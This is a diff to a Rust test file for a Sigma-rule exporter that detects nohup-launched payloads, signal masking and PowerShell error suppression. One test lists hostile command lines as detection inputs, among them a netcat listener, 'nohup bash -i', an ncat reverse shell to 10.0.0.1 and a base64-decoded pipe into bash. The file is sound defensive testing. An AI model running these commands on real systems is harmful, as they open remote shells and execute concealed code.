@@ -26,29 +26,152 @@ fn globs_become_anchored_regexes() {
 fn sigma_rules_cover_each_family_and_log_source() {
     let files = export_at(&Rules::embedded(), ExportFormat::Sigma, at()).unwrap();
     let names: Vec<&str> = files.iter().map(|(n, _)| n.as_str()).collect();
-    assert!(
-        names.contains(&"sighunt_nohup_linux_process_creation.yml"),
-        "{names:?}"
-    );
-    assert!(
-        names.contains(&"sighunt_nohup_linux_auditd.yml"),
-        "{names:?}"
-    );
+    for expected in [
+        "proc_creation_lnx_sighunt_nohup_suspicious_program.yml",
+        "proc_creation_macos_sighunt_nohup_suspicious_program.yml",
+        "lnx_auditd_sighunt_nohup_suspicious_program.yml",
+        "lnx_auditd_sighunt_signal_mask.yml",
+        "posh_ps_sighunt_error_suppression.yml",
+        "posh_pm_sighunt_error_suppression.yml",
+        "posh_pc_sighunt_error_suppression_pipeline.yml",
+        "sighunt_corr_chmod_then_nohup.yml",
+        "sighunt_corr_nohup_then_listener.yml",
+    ] {
+        assert!(names.contains(&expected), "{expected} missing: {names:?}");
+    }
     for (name, text) in &files {
-        assert!(text.contains("- attack.t1564.011\n"), "{name}");
-        assert!(text.contains("- attack.defense-evasion\n"), "{name}");
+        // ATT&CK v19: T1564 is under Stealth; no link stands where a tag should.
+        assert!(
+            text.contains(
+                "tags:\n    - attack.stealth\n    - attack.t1564\n    - attack.t1564.011\n"
+            ),
+            "{name}"
+        );
+        assert!(!text.contains("defense-evasion"), "{name}");
         assert!(text.contains("falsepositives:\n"), "{name}");
         assert!(text.contains("\nlevel: "), "{name}");
         assert!(text.contains(ATTACK_URL), "{name}");
+        // SigmaHQ's file name rule: [a-z0-9_]{10,90}.yml with an underscore.
+        let stem = name.strip_suffix(".yml").unwrap();
+        assert!(
+            (10..=86).contains(&stem.len())
+                && stem.contains('_')
+                && stem
+                    .chars()
+                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_'),
+            "{name}"
+        );
     }
     let auditd = &files
         .iter()
-        .find(|(n, _)| n.ends_with("auditd.yml"))
+        .find(|(n, _)| n == "lnx_auditd_sighunt_nohup_suspicious_program.yml")
         .unwrap()
         .1;
     assert!(auditd.contains("service: auditd"));
+    assert!(auditd.contains("name: sighunt_nohup_linux_auditd\n"));
     assert!(auditd.contains("    - '/dev/shm/'"), "{auditd}");
     assert!(auditd.contains("Sigma cannot express"), "{auditd}");
+}
+
+/// Every `|re` value of every exported rule, as written in the YAML.
+fn exported_regexes() -> Vec<(String, String)> {
+    let files = export_at(&Rules::embedded(), ExportFormat::Sigma, at()).unwrap();
+    let mut out = Vec::new();
+    for (name, text) in files {
+        for line in text.lines() {
+            if let Some((_, v)) = line.split_once("|re: ") {
+                let v = v.trim();
+                let v = v[1..v.len() - 1].replace("''", "'");
+                out.push((name.clone(), v));
+            }
+        }
+    }
+    out
+}
+
+#[test]
+fn every_exported_regex_is_in_the_portable_subset() {
+    let res = exported_regexes();
+    assert!(res.len() >= 10, "{res:?}");
+    for (name, re) in res {
+        assert_eq!(portable::non_portable(&re), None, "{name}: {re}");
+        regex::Regex::new(&re).unwrap_or_else(|e| panic!("{name}: {re}: {e}"));
+    }
+}
+
+/// The nohup rule's regexes, as the process_creation rule applies them, on a
+/// command line (`regex` searches, as Python, PCRE and RE2 do).
+fn nohup_rule_fires(command_line: &str) -> bool {
+    let files = export_at(&Rules::embedded(), ExportFormat::Sigma, at()).unwrap();
+    let rule = &files
+        .iter()
+        .find(|(n, _)| n == "proc_creation_lnx_sighunt_nohup_suspicious_program.yml")
+        .unwrap()
+        .1;
+    let mut indicator = false;
+    let mut masquerade = false;
+    let mut system_dir = false;
+    let mut current = "";
+    for line in rule.lines() {
+        let t = line.trim();
+        if t.ends_with(':') && line.starts_with("    ") && !line.starts_with("        ") {
+            current = t;
+        }
+        if let Some((_, v)) = t.split_once("|re: ") {
+            let re = regex::Regex::new(&v[1..v.len() - 1].replace("''", "'")).unwrap();
+            if re.is_match(command_line) {
+                if current.starts_with("filter_masquerade") {
+                    system_dir = true;
+                } else if current.starts_with("indicator_masquerade") {
+                    masquerade = true;
+                } else {
+                    indicator = true;
+                }
+            }
+        }
+    }
+    indicator || (masquerade && !system_dir)
+}
+
+#[test]
+fn nohup_rules_fire_on_payloads_not_on_admin_jobs() {
+    for fires in [
+        "nohup python3 /tmp/x.py",
+        "nohup /usr/bin/python3 -u /dev/shm/.a.py",
+        "nohup bash /var/tmp/run.sh",
+        "nohup /tmp/.X11-cache/x",
+        "nohup nc -lvp 4444",
+        "nohup ./kworker 1",
+        "env X=1 nohup /tmp/p",
+        "nohup bash -i",
+        "nohup ncat --sh-exec /bin/sh 10.0.0.1 9",
+        "sh -c 'echo ZWNobw== | base64 -d | bash'",
+    ] {
+        assert!(nohup_rule_fires(fires), "{fires}");
+    }
+    for quiet in [
+        "nohup bash backup.sh",
+        "nohup python3 manage.py runserver",
+        "nohup /opt/app/bin/worker --queue mail",
+        "nohup /usr/sbin/sshd -D",
+        "nohup ./build.sh > /tmp/build.log",
+        "nohup java -jar /opt/app.jar",
+    ] {
+        assert!(!nohup_rule_fires(quiet), "{quiet}");
+    }
+}
+
+#[test]
+fn rule_ids_of_findings_name_exported_rules() {
+    let files = export_at(&Rules::embedded(), ExportFormat::Sigma, at()).unwrap();
+    let all: String = files.iter().map(|(_, t)| t.as_str()).collect();
+    for (id, title) in RULES {
+        if *id == "sighunt_signal_ignore_live" {
+            continue;
+        }
+        assert!(all.contains(&format!("name: {id}")), "{id}");
+        assert!(all.contains(title), "{title}");
+    }
 }
 
 #[test]
